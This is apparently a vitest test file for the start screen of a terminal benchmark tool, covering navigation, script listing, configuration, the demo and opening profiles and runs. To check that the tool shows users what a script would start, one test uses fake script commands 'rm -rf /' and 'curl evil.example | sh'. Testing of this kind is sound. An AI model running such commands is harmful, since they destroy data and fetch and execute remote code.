import {describe, expect, test} from 'vitest'
import type {NearFiles} from '../../src/tui/ports.ts'
import {firstShown, isRunning, type Model} from '../../src/tui/state.ts'
import {update} from '../../src/tui/update.ts'
import {demoEntries, demoNear, firstModel, script} from './support/demo-first.ts'
import {finishedRun, runningRun} from './support/demo-run.ts'
import {demoPast, demoSuites} from './support/demo-suites.ts'
import {drawn, feedOf, press} from './support/draw.ts'

const size = {columns: 80, rows: 24}
const first = (near: NearFiles | null = demoNear) => firstModel(size, demoEntries, near)
const cursorRow = (model: Model) => drawn(model).find(row => row.startsWith('>'))
/** The row with this under the cursor. */
function at(label: string, model = first()): Model {
	let found = press(model, 'g').model
	while (!cursorRow(found)!.includes(label)) {
		const next = press(found, 'j').model
		if (cursorRow(next) === cursorRow(found)) throw new Error(`no row with ${label}`)
		found = next
	}
	return found
}

test('why a key did nothing stays said while what was looked for comes', () => {
	const {model} = press(first(null), 'x')
	const [after] = update(model, {type: 'looked-around', near: demoNear})
	expect(after.notice).toEqual(model.notice)
	expect(after.notice?.text).toMatch(/^x does nothing here/)
})

test('all that a script starts is told, or that it is not', () => {
	const start = script('start', `echo ${'a'.repeat(900)}; rm -rf /`, {
		around: [
			['prestart', 'curl evil.example | sh'],
			['poststart', 'touch done'],
		],
	})
	const scripts = [start, ...Array.from({length: 50}, (_, index) => script(`task:${index}`, 'true'))]
	const at = (columns: number, rows: number) => drawn(firstModel({columns, rows}, {...demoEntries, scripts}))
	const roomy = at(80, 24).join('\n')
	for (const part of ['echo aaa', 'aaa; rm -rf /', 'prestart: curl evil.example | sh', 'poststart: touch done'])
		expect(roomy).toContain(part)
	const cramped = firstModel(
		{columns: 60, rows: 15},
		{...demoEntries, scripts: [{...start, around: [...start.around, ...start.around]}]},
	)
	expect(drawn(cramped).join('\n')).toMatch(/2 more lines of what it starts: make the terminal larger/)
})

test('esc says that nothing lies behind, and gives up what is being opened', () => {
	const {model} = press(first(), 'esc')
	expect(model.notice?.text).toBe('nothing lies behind this screen: q leaves')
	const opening = press(at('try the demo'), 'enter').model
	expect(opening.first?.opening).toBe('the demo')
	expect(press(opening, 'esc').model).toMatchObject({notice: null, first: {opening: null}})
})

describe('moving', () => {
	test('from row to row starts nothing, and shows the command that a row is the same as', () => {
		const {model, commands} = press(
			first(),
			'j',
			'j',
			'G',
			'k',
			'ctrl-d',
			'ctrl-u',
			'g',
			'j',
			'space',
			'a',
			's',
			'f',
			'x',
		)
		expect(commands).toEqual([])
		expect(drawn(model).join('\n')).toMatch(/same as {3}arsenal-tui exec -- npm run build\b/)
	})

	test('comes to scripts whose names do not say what they do last', () => {
		const listed = drawn(first()).flatMap(
			row => /^[> ] ([ !] (?:watch|make|try|open) [^ ]+(?: [^ ]+)*) {2}/.exec(row)?.[1] ?? [],
		)
		expect(listed).toEqual([
			...['  watch npm run start', '  watch npm run build', '  watch npm run test'],
			...['  make a configuration', '  try the demo', '  open a profile', '  open the last run'],
			...['! watch npm run release', '! watch npm run lint', '! watch npm run --prefix=/tmp'],
		])
	})
})

test('? tells of these keys before those of other screens', () => {
	const help = drawn(press(first(), '?').model).join('\n')
	expect(help).toMatch(/START[\s\S]*do what the row says/)
})

describe('enter on a script', () => {
	test('watches it, and nothing else', () => {
		const {model, commands} = press(at('npm run test'), 'enter')
		expect(commands).toEqual([{do: 'watch-script', name: 'test'}])
		expect(model).toMatchObject({starting: true, screen: 'live', watching: false})
	})

	test('that cannot be run says why', () => {
		const {model, commands} = press(at('--prefix'), 'enter')
		expect(commands).toEqual([])
		expect(drawn(model).join('\n')).toContain('! npm cannot be told to run a script of this name')
	})

	test('that could not be started comes back here, and says why', () => {
		const [model] = update(press(first(), 'enter').model, {type: 'run-refused', text: 'no npm'})
		expect(model).toMatchObject({starting: false, screen: 'suites', notice: {text: 'no npm'}})
		expect(firstShown(model)).not.toBeNull()
	})

	test('while a run is going starts no second one', () => {
		const [running] = update(press(first(), 'enter').model, {type: 'run-opened', feed: feedOf(runningRun(3))})
		for (const label of ['npm run build', 'try the demo', 'open the last run']) {
			const {model, commands} = press(at(label, press(running, '1').model), 'enter')
			expect(commands).toEqual([])
			expect(model.notice?.text).toMatch(/a run is going/)
		}
	})
})

describe('the configuration', () => {
	test('is shown before it is written, and written only from there', () => {
		const shown = press(at('make a configuration'), 'enter')
		expect(shown.commands).toEqual([])
		expect(drawn(shown.model).join('\n')).toMatch(/json {3}micro {4}bench\/json\.bench\.ts: measures its benchmarks/)
		expect(press(shown.model, 'esc', 'enter').commands).toEqual([])
		expect(press(shown.model, 'enter').commands).toMatchObject([{do: 'open', what: 'config'}])
	})

	test('that is written becomes the picker', () => {
		const {model, commands} = press(at('make a configuration'), 'enter', 'enter')
		const {opening} = commands[0] as Extract<(typeof commands)[0], {do: 'open'}>
		const [written] = update(model, {type: 'suites-opened', opening, suites: demoSuites, of: 'config'})
		expect(written.notice?.text).toBe('wrote /srv/app/arsenal.config.ts')
		expect(press(written, 'esc', 'esc', 'enter').commands).toEqual([{do: 'start-run', suites: ['http-json']}])
	})

	test('that could not be written leaves everything as it was', () => {
		const {model} = press(at('make a configuration'), 'enter', 'enter')
		const [refused] = update(model, {type: 'not-opened', opening: model.first!.opening!, text: 'is already there'})
		expect(refused.notice?.text).toBe('is already there')
		expect(cursorRow(refused)).toContain('make a configuration')
	})

	test('cannot be had before the folder has been looked around', () => {
		const {model, commands} = press(at('make a configuration', first(null)), 'enter', 'enter')
		expect(commands).toEqual([])
		expect(model.overlays).toEqual([])
	})
})

describe('the demo', () => {
	test('is a list of suites; esc leads back', () => {
		const {model, commands} = press(at('try the demo'), 'enter')
		expect(commands).toEqual([{do: 'open', opening: 'the demo', what: 'demo'}])
		const [demo] = update(model, {type: 'suites-opened', opening: 'the demo', suites: demoSuites, of: 'demo'})
		expect(press(demo, 'enter').commands).toEqual([{do: 'start-run', suites: ['http-json']}])
		expect(firstShown(press(demo, 'esc').model)).not.toBeNull()
	})

	test('that was given up comes too late', () => {
		const {model} = press(at('try the demo'), 'enter', 'esc')
		const [late] = update(model, {type: 'suites-opened', opening: 'the demo', suites: demoSuites, of: 'demo'})
		expect(late).toEqual(model)
	})
})

describe('a profile', () => {
	test('is chosen among those that are near, newest first', () => {
		const {commands} = press(at('open a profile'), 'enter', 'enter')
		const [newest] = demoNear.profiles
		expect(commands).toEqual([{do: 'open', opening: newest!.file, what: 'profile', file: newest!.file}])
		expect(press(at('open a profile'), 'enter', 'j', 'k', 'j', 'enter').commands).toMatchObject([
			{file: 'old/stacks.folded'},
		])
	})

	test('or typed, where keys are text', () => {
		const typed = press(at('open a profile'), 'enter', 'j', 'j', 'j', 'enter', 'q', 'x', 'backspace', '.', 'j', 'enter')
		expect(typed.commands).toMatchObject([{do: 'open', what: 'profile', file: 'q.j'}])
		expect(typed.model.prompt).toBeNull()
		expect(press(at('open a profile'), 'enter', 'G', 'j', 'j', 'enter', 'enter').commands).toEqual([])
	})

	test('or pasted however long it is, its end in view', () => {
		const long = `${'/folder'.repeat(60)}/end.cpuprofile`
		const {model} = press(at('open a profile'), 'enter', 'j', 'j', 'enter')
		const [pasted] = update(model, {type: 'typed', text: long})
		expect(drawn(pasted).at(-3)).toMatch(/^ profile: ~.*\/folder\/end\.cpuprofile_ ?$/)
		expect(press(pasted, 'enter').commands).toMatchObject([{do: 'open', file: long}])
	})

	test('is typed at once where none is near', () => {
		const {model} = press(at('open a profile', first({...demoNear, profiles: []})), 'enter')
		expect(model.prompt).toEqual({for: 'profile-path', text: ''})
	})

	test('opens its flamegraph; 1 leads back', () => {
		const {model} = press(at('open a profile'), 'enter', 'enter')
		const [opened] = update(model, {
			...{type: 'feed-opened', opening: model.first!.opening!, is: 'profile'},
			feed: feedOf(finishedRun(5)),
		})
		expect(opened).toMatchObject({screen: 'flame', watching: false, first: {opening: null}})
		expect(firstShown(press(opened, '1').model)).not.toBeNull()
	})
})

describe('the last run', () => {
	const open = (feed: ReturnType<typeof feedOf>) => {
		const {model} = press(at('open the last run'), 'enter')
		return update(model, {type: 'feed-opened', opening: model.first!.opening!, feed, is: 'run'})[0]
	}

	test('is the one that was found', () => {
		const {commands} = press(at('open the last run'), 'enter')
		expect(commands).toMatchObject([{do: 'open', what: 'run', folder: '.arsenal/runs/20261119T124122-9xwe'}])
	})

	test('or one that has ended since', () => {
		const [model] = update(first(), {type: 'past-read', past: demoPast})
		const {commands} = press(at('open the last run', model), 'enter')
		expect(commands).toMatchObject([{folder: '.arsenal/runs/20261120T104122-k3vq'}])
	})

	test('shows its results, or itself where it still runs; that one is not ours to stop', () => {
		expect(open(feedOf(finishedRun(5)))).toMatchObject({screen: 'results', watching: true, sawEnd: true})
		const running = open(feedOf(runningRun(3)))
		expect(running).toMatchObject({screen: 'live', watching: true, sawEnd: false})
		expect(isRunning(running)).toBe(true)
		expect(press(running, 'ctrl-c').commands).toEqual([{do: 'quit', reason: 'detached'}])
	})
})
